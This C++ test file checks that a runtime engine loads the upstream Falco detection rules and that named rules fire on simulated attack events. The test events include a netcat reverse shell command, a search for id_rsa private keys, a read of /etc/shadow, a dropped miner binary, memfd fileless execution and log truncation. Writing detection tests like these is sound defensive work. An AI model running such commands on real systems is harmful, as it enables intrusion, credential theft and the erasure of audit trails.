// The upstream falcosecurity/rules files load unmodified, and named rules fire on events that show
// the behaviour they describe and stay quiet on near misses.
#include <gtest/gtest.h>

#include <algorithm>
#include <nlohmann/json.hpp>
#include <regex>

#include "runtime/falco_test_support.h"

namespace moat::runtime::falco::test {
namespace {

size_t grep_count(const std::string& text, const std::string& prefix) {
  size_t n = 0;
  std::istringstream in(text);
  for (std::string line; std::getline(in, line);) {
    if (line.rfind(prefix, 0) == 0) ++n;
  }
  return n;
}

class FalcoUpstream : public ::testing::Test {
 protected:
  void SetUp() override {
    if (!read_text(upstream_rules_dir() + "/falco_rules.yaml", stable_)) {
      GTEST_SKIP() << "upstream rules not found beside the work tree (" << upstream_rules_dir() << ")";
    }
    ASSERT_TRUE(read_text(upstream_rules_dir() + "/falco-incubating_rules.yaml", incubating_));
    rules_.load(stable_, "falco_rules.yaml");
    rules_.compile();
    procs_.add(1, 0, "systemd", "/usr/lib/systemd/systemd");
    procs_.add(40, 1, "containerd-shim", "/usr/bin/containerd-shim-runc-v2");
    procs_.add(50, 40, "runc", "/usr/bin/runc");
  }

  std::vector<std::string> fired(const Event& ev, const EvalContext& ctx) {
    std::vector<const Rule*> hits;
    rules_.match(ev, ctx, hits);
    std::vector<std::string> names;
    for (const Rule* r : hits) names.push_back(r->name);
    return names;
  }

  EvalContext in_container() {
    EvalContext ctx;
    ctx.processes = &procs_;
    ctx.container = &container_;
    ctx.hostname = "node-1";
    return ctx;
  }
  EvalContext on_host() {
    EvalContext ctx;
    ctx.processes = &procs_;
    ctx.hostname = "node-1";
    return ctx;
  }

  std::string stable_, incubating_;
  RuleSet rules_;
  FakeProcesses procs_;
  ContainerInfo container_ = nginx_container();
};

bool has(const std::vector<std::string>& v, const std::string& name) {
  return std::find(v.begin(), v.end(), name) != v.end();
}

TEST_F(FalcoUpstream, StableFileLoadsWithCountsMatchingTheFile) {
  EXPECT_EQ(rules_.rules().size(), grep_count(stable_, "- rule:"));
  EXPECT_EQ(rules_.macro_count(), grep_count(stable_, "- macro:"));
  EXPECT_EQ(rules_.list_count(), grep_count(stable_, "- list:"));
  EXPECT_EQ(rules_.rules().size(), 25u);
  size_t enabled = 0;
  for (const auto& r : rules_.rules()) enabled += r.enabled ? 1 : 0;
  EXPECT_EQ(rules_.compiled_rule_count(), enabled);
  // Every upstream rule names the syscalls it watches, so none runs on every event.
  for (const auto& w : rules_.warnings()) ADD_FAILURE() << w;
}

TEST_F(FalcoUpstream, StableAndIncubatingLoadTogether) {
  RuleSet both;
  both.load(stable_, "falco_rules.yaml");
  both.load(incubating_, "falco-incubating_rules.yaml");
  // Every rule in both files, enabled or not, must compile: turn them all on.
  std::string enable_all;
  for (const auto& r : both.rules()) {
    enable_all += "- rule: " + r.name + "\n  enabled: true\n";
  }
  both.load(enable_all, "enable_all.yaml");
  both.compile();
  EXPECT_EQ(both.compiled_rule_count(), both.rules().size());
  const size_t distinct_rules = both.rules().size();
  EXPECT_GE(distinct_rules, grep_count(incubating_, "- rule:"));
  EXPECT_LE(distinct_rules, grep_count(stable_, "- rule:") + grep_count(incubating_, "- rule:"));
}

TEST_F(FalcoUpstream, TerminalShellInContainer) {
  Event ev = exec_event("/bin/bash", {"bash"}, 200, 50);
  ev.tty = true;
  EXPECT_TRUE(has(fired(ev, in_container()), "Terminal shell in container"));
  // Near misses: no tty, on the host, or not a shell.
  Event no_tty = ev;
  no_tty.tty = false;
  EXPECT_FALSE(has(fired(no_tty, in_container()), "Terminal shell in container"));
  EXPECT_FALSE(has(fired(ev, on_host()), "Terminal shell in container"));
  Event not_shell = exec_event("/usr/bin/ls", {"ls"}, 200, 50);
  not_shell.tty = true;
  EXPECT_FALSE(has(fired(not_shell, in_container()), "Terminal shell in container"));
}

TEST_F(FalcoUpstream, ReadSensitiveFileUntrusted) {
  procs_.add(300, 1, "bash", "/bin/bash");
  Event ev = open_event("/etc/shadow", 0 /* O_RDONLY */, "python3", 301, 300);
  EXPECT_TRUE(has(fired(ev, on_host()), "Read sensitive file untrusted"));
  // Allowed readers and non-sensitive files do not fire.
  Event allowed = open_event("/etc/shadow", 0, "sshd", 301, 300);
  EXPECT_FALSE(has(fired(allowed, on_host()), "Read sensitive file untrusted"));
  Event other = open_event("/etc/hostname", 0, "python3", 301, 300);
  EXPECT_FALSE(has(fired(other, on_host()), "Read sensitive file untrusted"));
  Event failed = ev;
  failed.ret = -13;
  EXPECT_FALSE(has(fired(failed, on_host()), "Read sensitive file untrusted"));
}

TEST_F(FalcoUpstream, SearchPrivateKeysOrPasswords) {
  Event ev = exec_event("/usr/bin/find", {"find", "/", "-name", "id_rsa"});
  EXPECT_TRUE(has(fired(ev, on_host()), "Search Private Keys or Passwords"));
  Event near = exec_event("/usr/bin/find", {"find", "/", "-name", "notes.txt"});
  EXPECT_FALSE(has(fired(near, on_host()), "Search Private Keys or Passwords"));
}

TEST_F(FalcoUpstream, NetcatRemoteCodeExecutionInContainer) {
  Event ev = exec_event("/usr/bin/nc", {"nc", "10.0.0.5", "4444", "-e", "/bin/sh"});
  EXPECT_TRUE(has(fired(ev, in_container()), "Netcat Remote Code Execution in Container"));
  Event plain = exec_event("/usr/bin/nc", {"nc", "-z", "10.0.0.5", "80"});
  EXPECT_FALSE(has(fired(plain, in_container()), "Netcat Remote Code Execution in Container"));
  EXPECT_FALSE(has(fired(ev, on_host()), "Netcat Remote Code Execution in Container"));
}

TEST_F(FalcoUpstream, DropAndExecuteNewBinaryInContainer) {
  Event ev = exec_event("/tmp/xmrig", {"xmrig"});
  ev.exe_upper_layer = true;
  EXPECT_TRUE(has(fired(ev, in_container()), "Drop and execute new binary in container"));
  Event base = exec_event("/tmp/xmrig", {"xmrig"});
  EXPECT_FALSE(has(fired(base, in_container()), "Drop and execute new binary in container"));
  EXPECT_FALSE(has(fired(ev, on_host()), "Drop and execute new binary in container"));
}

TEST_F(FalcoUpstream, FilelessExecutionViaMemfd) {
  procs_.add(300, 1, "bash", "/bin/bash");
  Event ev = exec_event("/memfd:payload (deleted)", {"payload"}, 301, 300);
  ev.exe_from_memfd = true;
  EXPECT_TRUE(has(fired(ev, on_host()), "Fileless execution via memfd_create"));
  Event disk = exec_event("/usr/bin/payload", {"payload"}, 301, 300);
  EXPECT_FALSE(has(fired(disk, on_host()), "Fileless execution via memfd_create"));
  // runc re-executing itself from a memfd is on the rule's allow list.
  Event runc = exec_event("/memfd:runc_cloned:/proc/self/exe", {"runc", "init"}, 302, 50);
  runc.comm = "runc:[2:INIT]";
  runc.exe_from_memfd = true;
  EXPECT_FALSE(has(fired(runc, on_host()), "Fileless execution via memfd_create"));
}

TEST_F(FalcoUpstream, ClearLogActivities) {
  Event ev = open_event("/var/log/auth.log", 01 | 01000 /* O_WRONLY|O_TRUNC */, "bash");
  EXPECT_TRUE(has(fired(ev, on_host()), "Clear Log Activities"));
  Event append = open_event("/var/log/auth.log", 01 | 02000 /* O_APPEND */, "bash");
  EXPECT_FALSE(has(fired(append, on_host()), "Clear Log Activities"));
}

TEST_F(FalcoUpstream, ContactK8sApiServerFromContainer) {
  Event ev = tcp_event(EventType::Connect, "/usr/bin/curl", "10.1.0.7", 40000, "10.96.0.1", 443);
  // The rule compares against a list the user fills in: give it the cluster's service address.
  RuleSet rs;
  rs.load(stable_, "falco_rules.yaml");
  rs.load(
      "- list: k8s_api_server_addresses\n  items: ['\"10.96.0.1\"']\n"
      "- macro: k8s_api_server\n  condition: or fd.sip in (k8s_api_server_addresses)\n"
      "  override:\n    condition: append\n",
      "local.yaml");
  rs.compile();
  std::vector<const Rule*> hits;
  rs.match(ev, in_container(), hits);
  ASSERT_FALSE(hits.empty());
  EXPECT_EQ(hits[0]->name, "Contact K8S API Server From Container");
  hits.clear();
  ev.dst_addr = "10.96.0.2";
  rs.match(ev, in_container(), hits);
  EXPECT_TRUE(hits.empty());
}

TEST_F(FalcoUpstream, PtraceAttachedToProcess) {
  Event ev = process_event(EventType::Ptrace, "/usr/bin/gdb");
  ev.flags = 16;  // PTRACE_ATTACH
  EXPECT_TRUE(has(fired(ev, on_host()), "PTRACE attached to process"));
  ev.flags = 2;  // PTRACE_PEEKDATA
  EXPECT_FALSE(has(fired(ev, on_host()), "PTRACE attached to process"));
}

TEST_F(FalcoUpstream, IncubatingEnvironmentRulesReadTheExecsEnvironment) {
  RuleSet rs;
  rs.load(incubating_, "falco-incubating_rules.yaml");
  rs.compile();
  auto fires = [&](const Event& ev, const std::string& rule) {
    std::vector<const Rule*> hits;
    rs.match(ev, in_container(), hits);
    return std::any_of(hits.begin(), hits.end(), [&](const Rule* r) { return r->name == rule; });
  };
  const std::string tunables = "Potential Local Privilege Escalation via Environment Variables Misuse";
  Event ev = exec_event("/usr/bin/su", {"su"});
  ev.env = {"PATH=/usr/bin", "GLIBC_TUNABLES=glibc.tune.elision.enable=1"};
  EXPECT_TRUE(fires(ev, tunables));
  ev.env = {"PATH=/usr/bin"};
  EXPECT_FALSE(fires(ev, tunables));
  const std::string proxy = "Program run with disallowed http proxy env";
  Event curl = exec_event("/usr/bin/curl", {"curl", "http://example.com"});
  curl.env = {"HTTP_PROXY=http://10.0.0.1:3128"};
  EXPECT_TRUE(fires(curl, proxy));
  curl.env.clear();
  EXPECT_FALSE(fires(curl, proxy));
}

TEST_F(FalcoUpstream, PacketSocketCreatedInContainer) {
  Event ev = process_event(EventType::Socket, "/usr/sbin/arpspoof");
  ev.family = 17;  // AF_PACKET
  ev.flags = 3;    // SOCK_RAW
  ev.ret = 3;
  EXPECT_TRUE(has(fired(ev, in_container()), "Packet socket created in container"));
  EXPECT_FALSE(has(fired(ev, on_host()), "Packet socket created in container"));
  ev.family = 16;  // AF_NETLINK
  EXPECT_FALSE(has(fired(ev, in_container()), "Packet socket created in container"));
}

TEST_F(FalcoUpstream, RedirectStdoutStdinToNetworkConnectionInContainer) {
  Event ev = tcp_event(EventType::Dup, "/usr/bin/bash", "10.1.0.7", 40000, "203.0.113.9", 4444);
  ev.ret = 1;  // the socket is now stdout
  const std::string rule = "Redirect STDOUT/STDIN to Network Connection in Container";
  EXPECT_TRUE(has(fired(ev, in_container()), rule));
  EXPECT_FALSE(has(fired(ev, on_host()), rule));
  Event other_fd = ev;
  other_fd.ret = 7;
  EXPECT_FALSE(has(fired(other_fd, in_container()), rule));
  Event unix_socket = ev;
  unix_socket.family = 1;  // AF_UNIX
  EXPECT_FALSE(has(fired(unix_socket, in_container()), rule));
}

TEST_F(FalcoUpstream, AlertJsonHasFalcoShape) {
  Event ev = exec_event("/bin/bash", {"bash", "-i"}, 200, 50);
  ev.tty = true;
  const EvalContext ctx = in_container();
  std::vector<const Rule*> hits;
  rules_.match(ev, ctx, hits);
  auto it =
      std::find_if(hits.begin(), hits.end(), [](const Rule* r) { return r->name == "Terminal shell in container"; });
  ASSERT_NE(it, hits.end());
  const auto alert = nlohmann::json::parse(rules_.alert_json(**it, ev, ctx));
  EXPECT_EQ(alert["rule"], "Terminal shell in container");
  EXPECT_EQ(alert["priority"], "Notice");
  EXPECT_EQ(alert["source"], "syscall");
  EXPECT_EQ(alert["hostname"], "node-1");
  EXPECT_EQ(alert["time"], "2023-11-14T22:13:20.123456789Z");
  EXPECT_TRUE(alert["tags"].is_array());
  EXPECT_EQ(alert["output_fields"]["proc.name"], "bash");
  EXPECT_EQ(alert["output_fields"]["proc.cmdline"], "bash -i");
  EXPECT_EQ(alert["output_fields"]["proc.pname"], "runc");
  EXPECT_EQ(alert["output_fields"]["user.name"], "root");
  EXPECT_EQ(alert["output_fields"]["user.uid"], 0);
  EXPECT_EQ(alert["output_fields"]["container.id"], "0123456789ab");
  const std::string out = alert["output"];
  EXPECT_EQ(out.rfind("22:13:20.123456789: Notice A shell was spawned in a container with an attached terminal", 0), 0u)
      << out;
  EXPECT_NE(out.find("command=bash -i"), std::string::npos) << out;
  EXPECT_NE(out.find("container_id=0123456789ab container_name=web"), std::string::npos) << out;
}

}  // namespace
}  // namespace moat::runtime::falco::test
